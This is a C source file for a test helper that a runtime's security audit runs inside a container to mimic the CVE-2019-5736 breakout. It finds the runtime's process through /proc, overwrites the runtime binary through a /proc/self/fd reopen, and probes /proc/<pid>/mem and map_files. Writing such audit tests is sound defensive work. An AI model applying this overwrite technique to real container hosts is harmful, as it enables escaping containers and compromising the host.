/*
 * berth-attack — a static program the security audit
 * (tests/integration/test_security_audit.py) runs inside a container to
 * attack the runtime binary the way CVE-2019-5736 did.
 *
 * `berth-attack grab NAME SECONDS [FIFO]`: for SECONDS, scan /proc/<pid>/exe
 * of every process, keep an O_PATH fd on the first whose target's basename
 * is NAME (the runtime binary seen from inside); with FIFO, SIGKILL that
 * process and open FIFO for reading (unblocking it if it is a pid 1, which
 * ignores the kill, waiting to write there), then try to reopen it for writing through
 * /proc/self/fd/N until the runtime has left it (ETXTBSY while it runs) and write a marker at
 * offset 0.
 * `berth-attack write-fd N`: the same reopen-and-write on an inherited fd.
 * `berth-attack procfiles NAME SECONDS`: like grab, but tries
 * /proc/<pid>/mem (read-write) and the entries of /proc/<pid>/map_files of that
 * process instead.
 * A target is found by its exe link or, where that link cannot be read (a
 * non-dumpable process), by the basename of its argv[0] in /proc/<pid>/cmdline.
 * Each prints one JSON line: {"grabbed":B,"wrote":B,"errno":N,"tries":T,"detail":"…"}:
 * "tries" counts the opens of a target's files that were refused and "errno" is
 * the last refusal (or the write's), so a verdict of "nothing grabbed" tells a
 * refused attack (tries > 0, errno EACCES) from one that never met its target.
 *
 * It only ever writes to the file it grabbed; the tests point it at a copy
 * of berth-runtime in a temp dir.  Never used outside the tests.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MARKER "BERTH-PWNED"

static double now(void)
{
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return ts.tv_sec + ts.tv_nsec / 1e9;
}

static unsigned tries; /* refused opens of a target's files (EACCES, EPERM) */
static int refused;    /* the last refusal's errno */

/* A failed open: a refusal counts; a target gone meanwhile (ENOENT, ESRCH) does not. */
static void failed(int e)
{
        if (e == EACCES || e == EPERM) {
                tries++;
                refused = e;
        }
}

static void report(bool grabbed, bool wrote, int e, const char *detail)
{
        printf("{\"grabbed\":%s,\"wrote\":%s,\"errno\":%d,\"tries\":%u,\"detail\":\"%s\"}\n",
               grabbed ? "true" : "false", wrote ? "true" : "false", e, tries, detail);
        fflush(stdout);
}

/* Reopen fd for writing through /proc/self/fd until the file is no longer
 * being executed; 0 and the marker written, or -errno. */
static int write_through(int fd, double deadline)
{
        char p[64];
        snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
        for (;;) {
                int w = open(p, O_WRONLY | O_CLOEXEC);
                if (w >= 0) {
                        ssize_t n = pwrite(w, MARKER, strlen(MARKER), 0);
                        int e = errno;
                        close(w);
                        return n == (ssize_t)strlen(MARKER) ? 0 : -e;
                }
                if (errno != ETXTBSY || now() > deadline)
                        return -errno;
                usleep(1000);
        }
}

/* argv[0]'s basename is NAME: how a non-dumpable target (exe link unreadable) is known. */
static bool argv0_is(const char *pid, const char *name)
{
        char p[PATH_MAX], a[PATH_MAX];
        snprintf(p, sizeof(p), "/proc/%s/cmdline", pid);
        int fd = open(p, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return false;
        ssize_t n = read(fd, a, sizeof(a) - 1);
        close(fd);
        if (n <= 0)
                return false;
        a[n] = '\0';
        const char *base = strrchr(a, '/');
        return !strcmp(base ? base + 1 : a, name);
}

/* An exe link (of a process or of an fd we hold) names the runtime binary NAME. */
static bool link_is_target(const char *link, const char *name)
{
        char t[PATH_MAX];
        ssize_t n = readlink(link, t, sizeof(t) - 1);
        if (n <= 0)
                return false;
        t[n] = '\0';
        char *del = strstr(t, " (deleted)");
        if (del)
                *del = '\0';
        const char *base = strrchr(t, '/');
        if (!strcmp(base ? base + 1 : t, name))
                return true;
        /* The runtime in disguise: re-executed from a detached read-only bind
         * mount of its own file (the link reads "/"), or from a sealed memfd copy. */
        return !strcmp(t, "/") || !strncmp(t, "/memfd:berth-runtime", 20);
}

static bool is_target(const char *pid, const char *name)
{
        char p[PATH_MAX];
        snprintf(p, sizeof(p), "/proc/%s/exe", pid);
        if (link_is_target(p, name))
                return true;
        return errno == EACCES && argv0_is(pid, name);
}

/* One scan of /proc; the pid of a process running NAME, or NULL. */
static bool find_target(const char *name, char *pid, size_t len)
{
        DIR *d = opendir("/proc");
        struct dirent *de;
        bool found = false;
        while (d && (de = readdir(d))) {
                if (de->d_name[0] < '1' || de->d_name[0] > '9')
                        continue;
                if (is_target(de->d_name, name)) {
                        size_t l = strnlen(de->d_name, len - 1);
                        memcpy(pid, de->d_name, l);
                        pid[l] = '\0';
                        found = true;
                        break;
                }
        }
        if (d)
                closedir(d);
        return found;
}

static int grab(const char *name, double secs, const char *fifo)
{
        double deadline = now() + secs;
        char pid[32];
        while (now() < deadline) {
                if (!find_target(name, pid, sizeof(pid)))
                        continue;
                char p[64];
                snprintf(p, sizeof(p), "/proc/%s/exe", pid);
                int fd = open(p, O_PATH | O_CLOEXEC);
                if (fd < 0) {
                        failed(errno);
                        continue;
                }
                /* Known by its argv[0] only, it may have exec'd another program
                 * since: what we hold must be the runtime binary itself. */
                char self[64];
                snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
                if (!link_is_target(self, name)) {
                        close(fd);
                        continue;
                }
                if (fifo) {
                        kill(atoi(pid), SIGKILL);
                        (void)open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC); /* kept open */
                }
                int r = write_through(fd, deadline);
                report(true, r == 0, r < 0 ? -r : 0, p);
                return 0;
        }
        report(false, false, refused, "no runtime process opened");
        return 0;
}

static int procfiles(const char *name, double secs)
{
        double deadline = now() + secs;
        char pid[32];
        while (now() < deadline) {
                if (!find_target(name, pid, sizeof(pid)))
                        continue;
                char p[PATH_MAX];
                snprintf(p, sizeof(p), "/proc/%s/mem", pid);
                int fd = open(p, O_RDWR | O_CLOEXEC);
                if (fd >= 0) {
                        close(fd);
                        report(true, true, 0, "opened /proc/<pid>/mem read-write");
                        return 0;
                }
                failed(errno);
                snprintf(p, sizeof(p), "/proc/%s/map_files", pid);
                DIR *d = opendir(p);
                struct dirent *de;
                while (d && (de = readdir(d))) {
                        if (de->d_name[0] == '.')
                                continue;
                        int m = openat(dirfd(d), de->d_name, O_PATH | O_CLOEXEC);
                        if (m < 0) {
                                failed(errno);
                                continue;
                        }
                        closedir(d);
                        report(true, false, 0, "opened a /proc/<pid>/map_files entry");
                        return 0;
                }
                if (d) {
                        closedir(d);
                } else if (errno) {
                        failed(errno);
                }
        }
        report(false, false, refused, "nothing opened");
        return 0;
}

int main(int argc, char **argv)
{
        if (argc > 3 && !strcmp(argv[1], "grab"))
                return grab(argv[2], atof(argv[3]), argc > 4 ? argv[4] : NULL);
        if (argc > 3 && !strcmp(argv[1], "procfiles"))
                return procfiles(argv[2], atof(argv[3]));
        if (argc > 2 && !strcmp(argv[1], "write-fd")) {
                int r = write_through(atoi(argv[2]), now() + 5);
                report(true, r == 0, r < 0 ? -r : 0, "inherited fd");
                return 0;
        }
        fprintf(stderr, "usage: berth-attack grab|procfiles NAME SECONDS | write-fd N\n");
        return 2;
}
